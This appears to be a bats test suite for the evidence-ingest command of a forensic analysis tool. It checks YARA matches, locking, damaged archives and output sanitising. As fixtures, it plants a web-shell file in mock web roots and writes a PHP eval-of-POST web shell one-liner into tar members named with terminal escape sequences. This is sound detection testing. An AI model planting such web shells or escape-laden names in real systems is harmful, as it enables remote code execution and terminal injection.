two_hosts() {
	python3 "$IRKIT_SRC/tests/gen/yara_fixtures.py" "$1/fx" >/dev/null
	mkdir -p "$1/h1/var/www/html" "$1/h2/srv/www"
	cp "$1/fx/positive/chopper.php" "$1/h1/var/www/html/shell.php"
	cp "$1/fx/positive/chopper.php" "$1/h2/srv/www/up.php"
	echo '<html></html>' > "$1/h2/srv/www/index.html"
	tar -C "$1" -czf "$1/h1.tar.gz" h1
	tar -C "$1" -czf "$1/h2.tar.gz" h2
}

@test "ingest: a second host with the same web shell: its match and finding are counted, cached ones included" {
	s="$G/twohosts"
	mkdir -p "$s"
	two_hosts "$s"
	# oracle: the yara CLI matches the fixture with the bundled rules
	[ -n "$(yara "$IRKIT_SRC"/yara-rules/*.yar "$s/h2/srv/www/up.php")" ]
	cd "$s"
	run "$ANALYZE" ingest --db t.db "$s/h1.tar.gz"
	[ "$status" -eq 0 ]
	run "$ANALYZE" ingest --db t.db "$s/h2.tar.gz"
	echo "$output"
	[ "$status" -eq 0 ]
	m=$(q t.db "SELECT count(*) FROM yara_matches y JOIN files f ON f.id = y.file_id WHERE f.evidence_id = 2")
	f=$(q t.db "SELECT count(*) FROM findings WHERE evidence_id = 2")
	[ "$m" -ge 1 ]
	[ "$f" -ge 1 ]
	[[ "$output" == *" $m YARA matches ($m from the scan cache)"* ]]
	[[ "$output" == *" $f findings added ($(q t.db 'SELECT count(*) FROM findings') in the case)"* ]]
	# the same in --json, one object on stdout
	rm -f j.db
	"$ANALYZE" ingest --db j.db "$s/h1.tar.gz" 2>/dev/null >/dev/null
	"$ANALYZE" ingest --db j.db --json "$s/h2.tar.gz" > j.json 2>/dev/null
	python3 - j.json "$m" "$f" <<'PY'
import json, sys
lines = open(sys.argv[1]).read().splitlines()
assert len(lines) == 1, lines
o = json.loads(lines[0])
m, f = int(sys.argv[2]), int(sys.argv[3])
assert o["matches"] == m and o["matches_cached"] == m, o
assert o["findings"] == f and o["exit"] == 0 and o["evidence"] == 1, o
assert o["files"] == 2 and o["errors"] == 0 and o["events"] > 0, o
assert [i["status"] for i in o["inputs"]] == ["loaded"], o
PY
}

@test "ingest: a rule file that does not compile is an error in the log (and the report), exit 1; only broken --rules is fatal" {
	s="$G/badrules"
	mkdir -p "$s/ev"
	echo hello > "$s/ev/a.txt"
	printf 'rule broken_one {\n  condition:\n    no_such_identifier\n}\n' > "$s/broken.yar"
	printf 'rule fine_one { strings: $a = "hello" condition: $a }\n' > "$s/fine.yar"
	# oracle: yara itself refuses the file
	run yara "$s/broken.yar" "$s/ev/a.txt"
	[ "$status" -ne 0 ]
	cd "$s"
	run "$ANALYZE" ingest --db b.db --no-default-rules --rules broken.yar --rules fine.yar "$s/ev"
	echo "$output"
	[ "$status" -eq 1 ]
	[[ "$output" == *"broken.yar:"* ]]
	[ "$(q b.db "SELECT count(*) FROM log WHERE level = 'error' AND component = 'rules' AND message LIKE '%broken.yar:%'")" -eq 1 ]
	[ "$(q b.db "SELECT count(*) FROM evidence")" -eq 1 ]
	[ "$(q b.db "SELECT count(*) FROM yara_matches WHERE rule = 'fine_one'")" -eq 1 ]
	"$ANALYZE" report --db b.db -o b.html
	grep -q 'broken.yar' b.html
	# only broken rules named: nothing is loaded, exit 3 (bundled rules or not)
	for opt in --no-default-rules ""; do
		rm -f o.db
		run "$ANALYZE" ingest --db o.db $opt --rules broken.yar "$s/ev"
		echo "$output"
		[ "$status" -eq 3 ]
		[[ "$output" == *"no rule file given with --rules compiles"* ]]
		[ "$(q o.db "SELECT count(*) FROM evidence")" -eq 0 ]
		[ "$(q o.db "SELECT count(*) FROM log")" -eq 0 ]
	done
}

@test "ingest: what is neither an archive nor a folder is refused, not added; the other inputs load" {
	s="$G/notarchive"
	mkdir -p "$s"
	: > "$s/empty"
	printf '<?php\n$a = "x";\necho $a;\n?>\n' > "$s/lone.php"
	cp /etc/passwd "$s/passwd"
	mkdir -p "$s/good" && echo ok > "$s/good/f.txt"
	# oracle: bsdtar reads none of the three as an archive it lists members of
	for f in passwd empty lone.php; do
		n=$(bsdtar -tf "$s/$f" 2>/dev/null | wc -l || true)
		echo "$f: $n"
	done
	cd "$s"
	run "$ANALYZE" ingest --db n.db "$s/passwd" "$s/empty" "$s/lone.php" "$s/good"
	echo "$output"
	[ "$status" -eq 1 ]
	[ "$(echo "$output" | grep -c "expected an evidence archive")" -eq 3 ]
	[[ "$output" == *"'$s/passwd' is "*"not an archive"* ]]
	[[ "$output" == *"irkit-analyze rules scan"* ]]
	[ "$(q n.db "SELECT count(*) FROM evidence")" -eq 1 ]
	[ "$(q n.db "SELECT kind FROM evidence")" = directory ]
	[ "$(q n.db "SELECT count(*) FROM files")" -eq 1 ]
	run "$ANALYZE" ingest --db n2.db --json "$s/passwd"
	[ "$status" -eq 1 ]
	[ "$(q n2.db "SELECT count(*) FROM evidence")" -eq 0 ]
}

@test "ingest: while a load holds the case, a second ingest says so at once; report and export say it is being loaded, exit 1" {
	s="$G/busy"
	mkdir -p "$s/ev"
	echo hello > "$s/ev/a.txt"
	cd "$s"
	"$ANALYZE" ingest --db busy.db --no-default-rules "$s/ev" 2>/dev/null
	mkdir -p "$s/ev2" && echo other > "$s/ev2/b.txt"
	# a loader's hold: its flock(2), SQLite's write lock, a 'loading' row
	python3 - busy.db "$s/held" <<'PY' &
import fcntl, os, sqlite3, sys, time
fd = os.open(sys.argv[1], os.O_RDONLY)
fcntl.flock(fd, fcntl.LOCK_EX)
db = sqlite3.connect(sys.argv[1], isolation_level=None)
db.execute("BEGIN IMMEDIATE")
db.execute("UPDATE evidence SET status = 'loading'")
open(sys.argv[2], "w").close()
time.sleep(20)
db.execute("ROLLBACK")
PY
	holder=$!
	for i in $(seq 50); do [ -e "$s/held" ] && break; sleep 0.1; done
	[ -e "$s/held" ]
	start=$(date +%s)
	run "$ANALYZE" ingest --db busy.db --no-default-rules "$s/ev2"
	echo "$output"
	[ "$status" -eq 3 ]
	[[ "$output" == *"'busy.db' is being loaded by another irkit-analyze"* ]]
	[[ "$output" != *"database is locked"* ]]
	[ $(( $(date +%s) - start )) -lt 5 ]
	run "$ANALYZE" report --db busy.db -o r.html
	echo "$output"
	[ "$status" -eq 1 ]
	[[ "$output" == *"'busy.db' is being loaded"* ]]
	[ ! -e r.html ]
	run "$ANALYZE" export --db busy.db --format csv
	[ "$status" -eq 1 ]
	[[ "$output" == *"'busy.db' is being loaded"* ]]
	kill "$holder" 2>/dev/null || true
	wait "$holder" 2>/dev/null || true
	# once the loader has gone, they run
	run "$ANALYZE" export --db busy.db --format csv -o /dev/null
	[ "$status" -eq 0 ]
}

@test "ingest: the same collection re-packed by GNU tar is recognised by its manifest, nothing doubles" {
	s="$G/repack"
	mkdir -p "$s/x"
	cp "$DB" "$s/r.db"
	counts() {
		q "$s/r.db" "SELECT (SELECT count(*) FROM evidence)||' '||(SELECT count(*) FROM files)||' '||(SELECT count(*) FROM events)||' '||(SELECT count(*) FROM processes)||' '||(SELECT count(*) FROM findings)||' '||(SELECT count(*) FROM yara_matches)"
	}
	before=$(counts)
	# the same members, in the same order, written by GNU tar without compression
	tar --zstd -C "$s/x" -xf "$A"
	tar --zstd -tf "$A" > "$s/list"
	tar -C "$s/x" --no-recursion -T "$s/list" -cf "$s/copy.tar"
	[ "$(sha256sum < "$s/copy.tar")" != "$(sha256sum < "$A")" ]
	(cd "$s" && sha256sum copy.tar > copy.tar.sha256)
	run "$ANALYZE" verify "$s/copy.tar"
	[ "$status" -eq 0 ]
	cd "$s"
	run "$ANALYZE" ingest --db r.db "$s/copy.tar"
	echo "$output"
	[ "$status" -eq 0 ]
	[[ "$output" == *"already loaded as evidence 1 (the same collection"* ]]
	[ "$(counts)" = "$before" ]
	[ "$(q r.db 'PRAGMA integrity_check')" = ok ]
	# a tampered copy (one record line changed) is not the same: loaded, damaged
	f=$(grep -m1 'records/processes.jsonl' "$s/list")
	sed -i '1s/"pid":[0-9]*/"pid":999999/' "$s/x/$f"
	tar -C "$s/x" --no-recursion -T "$s/list" -cf "$s/tampered.tar"
	run "$ANALYZE" ingest --db r.db "$s/tampered.tar"
	[ "$status" -eq 1 ]
	[ "$(q r.db "SELECT verify FROM evidence WHERE id = (SELECT max(id) FROM evidence)")" = damaged ]
}

# on_pty OUT CMD...: run CMD with its stderr on a pseudo-terminal (python3's
# pty module), what it wrote there into OUT; CMD's exit status.
on_pty() {
	python3 - "$@" <<'PY'
import os, pty, subprocess, sys
m, sl = pty.openpty()
p = subprocess.Popen(sys.argv[2:], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=sl)
os.close(sl)
buf = b""
while True:
	try:
		d = os.read(m, 4096)
	except OSError:
		break
	if not d:
		break
	buf += d
open(sys.argv[1], "wb").write(buf)
sys.exit(p.wait())
PY
}

@test "ingest: -q prints errors only; progress (input, MiB of MiB, rate, ETA) only on a terminal" {
	s="$G/quiet"
	mkdir -p "$s/ev"
	head -c 3000000 /dev/urandom > "$s/ev/big.bin"
	tar -C "$s" -czf "$s/ev.tar.gz" ev
	cd "$s"
	"$ANALYZE" ingest -q --db q.db --no-default-rules "$s/ev.tar.gz" > out 2> err
	[ ! -s out ]
	[ ! -s err ]
	run "$ANALYZE" ingest -q --db q.db --no-default-rules "$s/ev.tar.gz" /etc/passwd
	[ "$status" -eq 1 ]
	[ "$(echo "$output" | wc -l)" -eq 1 ]
	[[ "$output" == *"passwd"* ]]
	# not a terminal: no progress
	"$ANALYZE" ingest --db n.db --no-default-rules "$s/ev.tar.gz" 2> err
	run grep -c -e 'MiB/s' -e $'\r' err
	[ "$output" = 0 ]
	# a terminal (python3's pty): the input, bytes of its size, rate, ETA
	on_pty "$s/tty.out" "$ANALYZE" ingest --db t.db --no-default-rules "$s/ev.tar.gz"
	cat "$s/tty.out"
	size=$(python3 -c 'import os, sys; print("%.1f" % (os.path.getsize(sys.argv[1]) / 1048576))' "$s/ev.tar.gz")
	grep -q "ev.tar.gz: .* of $size MiB, .* MiB/s, ETA " "$s/tty.out"
	# -q on a terminal: nothing
	on_pty "$s/tty-q.out" "$ANALYZE" ingest -q --db t2.db --no-default-rules "$s/ev.tar.gz"
	[ ! -s "$s/tty-q.out" ]
}

@test "ingest: member names with terminal escapes reach no terminal raw" {
	s="$G/hostile-names"
	mkdir -p "$s"
	python3 - "$s/irkit-evil-20260101T000000Z.tar" <<'PY'
import hashlib, io, json, sys, tarfile
top = "irkit-evil-20260101T000000Z"
names = ["files/tmp/\x1b]0;x\x07title", "files/tmp/\x1b[31mred", "files/tmp/csi\udc9bX"]
data = {n: b"<?php eval($_POST['x']); ?>\n" for n in names}
data["records/processes.jsonl"] = b""
# the manifest lists none of the files: each is an "extra" member, named in a message
members = [{"path": "records/processes.jsonl", "size": 0, "sha256": hashlib.sha256(b"").hexdigest()}]
man = {"format": "irkit-evidence", "format_version": 1, "name": top, "host": {"hostname": "evil"},
       "start_time": "2026-01-01T00:00:00Z", "end_time": "2026-01-01T00:00:05Z", "members": members}
data["manifest.json"] = json.dumps(man).encode()
with tarfile.open(sys.argv[1], "w", format=tarfile.GNU_FORMAT, encoding="utf-8", errors="surrogateescape") as t:
	for k, v in data.items():
		ti = tarfile.TarInfo(top + "/" + k); ti.size = len(v); ti.mtime = 1767225600
		t.addfile(ti, io.BytesIO(v))
PY
	# oracle: GNU tar lists the three hostile names
	[ "$(tar -tf "$s/irkit-evil-20260101T000000Z.tar" | grep -c '/files/tmp/')" -eq 3 ]
	cd "$s"
	"$ANALYZE" ingest --db e.db "$s/irkit-evil-20260101T000000Z.tar" > out 2> err || true
	cat out err
	grep -q 'extra: ' err
	python3 - out err <<'PY'
import sys
for p in sys.argv[1:]:
	b = open(p, "rb").read()
	for bad in (b"\x1b", b"\x07", b"\x9b"):
		assert bad not in b, (p, bad, b)
PY
	grep -q '\\x1b\]0;x\\x07title' err
}

# 3000 small files: a case of more than 768 KiB
many_files_tar() {
	python3 - "$1" <<'PY'
import io, sys, tarfile
with tarfile.open(sys.argv[1], "w") as t:
	for i in range(3000):
		v = b"x%d\n" % i
		ti = tarfile.TarInfo("in/d%d/file-with-a-longish-name-%06d.txt" % (i % 30, i))
		ti.size = len(v)
		t.addfile(ti, io.BytesIO(v))
PY
}

@test "ingest: a full disk stops the load with the case's path and what was written, no summary" {
	s="$G/full"
	# room for the empty case (about 1.2 MB of tables), not for the load
	full_fs "$s" 1600k
	many_files_tar "$G/many.tar"
	run "$ANALYZE" ingest --db "$s/case.db" "$G/many.tar"
	full_fs_gone "$s"
	echo "$output"
	[ "$status" -eq 3 ]
	[[ "$output" == *"cannot write "*" to the case '$s/case.db': database or disk is full"* ]]
	# said once, and no summary of a load
	[ "$(grep -c 'database or disk is full' <<< "$output")" -eq 1 ]
	[[ "$output" != *"already in"* ]]
	[[ "$output" == *"the load stopped at the error above"* ]]
}

@test "ingest --json: a full disk is a failed load" {
	s="$G/full"
	full_fs "$s" 1600k
	many_files_tar "$G/many.tar"
	rc=0
	"$ANALYZE" ingest --json --db "$s/case.db" "$G/many.tar" > "$G/full.json" 2> "$G/full.err" || rc=$?
	full_fs_gone "$s"
	cat "$G/full.json" "$G/full.err"
	[ "$rc" -eq 3 ]
	python3 - "$s/case.db" "$G/full.json" <<'PY'
import json, sys
o = json.load(open(sys.argv[2]))
assert o["exit"] == 3, o
assert "database or disk is full" in o["error"] and sys.argv[1] in o["error"], o
PY
}

@test "ingest: a load killed (-9) before its first batch commit leaves its evidence row 'loading'; a rerun replaces it" {
	d="$G/killed"
	mkdir -p "$d"
	many_files_tar "$d/many.tar"
	"$ANALYZE" ingest -q --db "$d/k.db" "$d/many.tar" & pid=$!
	# the row as an independent reader sees it, read-only, while the
	# load runs (3000 files and their scan: seconds)
	st=
	for _ in $(seq 600); do
		if [ -f "$d/k.db" ]; then
			st=$(sqlite3 -readonly -batch -noheader "$d/k.db" "SELECT status FROM evidence" 2>/dev/null || true)
			[ -n "$st" ] && break
		fi
		kill -0 "$pid" 2>/dev/null || break
		sleep 0.05
	done
	kill -STOP "$pid" 2>/dev/null || true
	# far fewer rows than one batch (100000) are in: no batch committed
	files=$(q "$d/k.db" "SELECT count(*) FROM files")
	kill -KILL "$pid" 2>/dev/null || true
	wait "$pid" || true
	echo "status seen: '$st', files: $files"
	[ "$st" = loading ]
	[ "$(q "$d/k.db" "SELECT count(*) || ' ' || status FROM evidence")" = "1 loading" ]
	[ "$(q "$d/k.db" 'PRAGMA integrity_check')" = ok ]
	run "$ANALYZE" ingest --db "$d/k.db" "$d/many.tar"
	echo "$output"
	[ "$status" -eq 0 ]
	[[ "$output" == *"an earlier load of this evidence (evidence 1) did not finish: loading it again"* ]]
	[ "$(q "$d/k.db" "SELECT count(*) || ' ' || status FROM evidence")" = "1 complete" ]
	[ "$(q "$d/k.db" "SELECT count(*) FROM files")" -eq 3000 ]
}

# two_members DIR SIZE: DIR/src/top/a.bin (SIZE random bytes) and b.txt
two_members() {
	mkdir -p "$1/src/top"
	head -c "$2" /dev/urandom > "$1/src/top/a.bin"
	echo hello > "$1/src/top/b.txt"
}

@test "ingest: an archive damaged before its first member (a 2 GiB zstd window, cut short) is in the case: partial, damaged, the reason logged, exit 1" {
	s="$G/early"
	two_members "$s" 100000
	tar -C "$s/src" -cf "$s/t.tar" top
	# from a pipe zstd does not know the size: the frame keeps the 2 GiB
	# window --long=31 asks for, which zstd itself refuses without --long
	zstd -q --long=31 -c < "$s/t.tar" > "$s/long.tar.zst"
	zstd -lv "$s/long.tar.zst" 2>&1 | grep -q 'Window Size: 2.00 GiB'
	run zstd -dc "$s/long.tar.zst"
	[ "$status" -ne 0 ]
	zstd -q -c < "$s/t.tar" | head -c 20 > "$s/cut.tar.zst"
	gzip -c < "$s/t.tar" | head -c 30 > "$s/cut.tar.gz"
	cd "$s"
	for f in long.tar.zst cut.tar.zst cut.tar.gz; do
		run "$ANALYZE" ingest --no-default-rules --db "$f.db" "$s/$f"
		echo "$output"
		[ "$status" -eq 1 ]
		[[ "$output" == *"'$s/$f': damaged: "*" (before the first member)"* ]]
		[ "$(q "$f.db" "SELECT count(*) || ' ' || status || ' ' || verify FROM evidence")" = "1 partial damaged" ]
		[ "$(q "$f.db" "SELECT count(*) FROM log WHERE level = 'error' AND message LIKE 'damaged: % (before the first member)'")" = 1 ]
		[ "$(q "$f.db" "SELECT count(*) FROM files")" = 0 ]
	done
	[ "$(q long.tar.zst.db "SELECT count(*) FROM log WHERE message LIKE '%Frame requires too much memory%'")" = 1 ]
	[ "$(q cut.tar.zst.db "SELECT count(*) FROM log WHERE message LIKE '%runcated zstd input%'")" = 1 ]
	[ "$(q long.tar.zst.db "SELECT verify_detail FROM evidence")" = '["damaged: Zstd decompression failed: Frame requires too much memory for decoding (before the first member)"]' ]
	# loaded once: the same file again is known
	run "$ANALYZE" ingest --no-default-rules --db cut.tar.zst.db "$s/cut.tar.zst"
	[[ "$output" == *"already loaded as evidence 1"* ]]
	# what is no archive at all is still refused, without a row
	head -c 5000 /dev/urandom > "$s/noise.bin"
	run "$ANALYZE" ingest --no-default-rules --db noise.db "$s/noise.bin"
	[ "$status" -eq 1 ]
	[ "$(q noise.db "SELECT count(*) FROM evidence")" = 0 ]
}

@test "ingest: zip members it cannot read (encrypted, an unsupported method) are logged by name and reason; the evidence is partial, exit 1" {
	s="$G/zipbad"
	two_members "$s" 10000
	(cd "$s/src" && zip -q -e -P x ../enc.zip top/b.txt top/a.bin)
	# oracle: bsdtar cannot read them without the password either
	run bsdtar -xOf "$s/enc.zip"
	[ "$status" -ne 0 ]
	python3 - "$s/odd.zip" <<-'EOF'
	import struct, sys, zipfile
	p = sys.argv[1]
	with zipfile.ZipFile(p, "w", zipfile.ZIP_STORED) as z:
	    z.writestr("top/ok.txt", "fine\n")
	    z.writestr("top/odd.bin", "odd method data\n")
	d = bytearray(open(p, "rb").read())
	# the second member's method becomes 97 (WavPack): local header, central directory
	i = d.find(b"PK\x03\x04", 1)
	d[i + 8:i + 10] = struct.pack("<H", 97)
	j = d.find(b"PK\x01\x02", d.find(b"PK\x01\x02") + 1)
	d[j + 10:j + 12] = struct.pack("<H", 97)
	open(p, "wb").write(bytes(d))
	EOF
	cd "$s"
	run --separate-stderr "$ANALYZE" ingest --no-default-rules --json --db enc.db "$s/enc.zip"
	echo "$stderr"
	[ "$status" -eq 1 ]
	[[ "$stderr" == *"'$s/enc.zip': 2 members could not be read to their end (the last: "* ]]
	python3 -c '
import json, sys
j = json.loads(sys.argv[1])
assert j["inputs"][0]["status"] == "partial", j
assert j["inputs"][0]["errors"] == 2, j
' "$output"
	[ "$(q enc.db "SELECT status FROM evidence")" = partial ]
	run q enc.db "SELECT path || '|' || message FROM log WHERE level = 'error' ORDER BY path"
	[ "${#lines[@]}" -eq 2 ]
	[[ "${lines[0]}" == "top/a.bin|member could not be read to its end: "*"assphrase"* ]]
	[[ "${lines[1]}" == "top/b.txt|member could not be read to its end: "*"assphrase"* ]]
	# the names and times are still rows, without a digest of what
	# could not be read
	[ "$(q enc.db "SELECT group_concat(path) FROM (SELECT path FROM files ORDER BY 1)")" = "top/a.bin,top/b.txt" ]
	[ "$(q enc.db "SELECT count(*) FROM files WHERE sha256 IS NULL AND skipped_reason = 'unreadable'")" -eq 2 ]
	run "$ANALYZE" ingest --no-default-rules --db odd.db "$s/odd.zip"
	echo "$output"
	[ "$status" -eq 1 ]
	[ "$(q odd.db "SELECT status FROM evidence")" = partial ]
	[ "$(q odd.db "SELECT path || '|' || message FROM log WHERE level = 'error'")" = "top/odd.bin|member could not be read to its end: Unsupported ZIP compression method (97: wav-pack)" ]
	# the readable member is whole: sha256sum is the oracle
	[ "$(q odd.db "SELECT sha256 FROM files WHERE path = 'top/ok.txt'")" = "$(printf 'fine\n' | sha256sum | cut -d' ' -f1)" ]
}
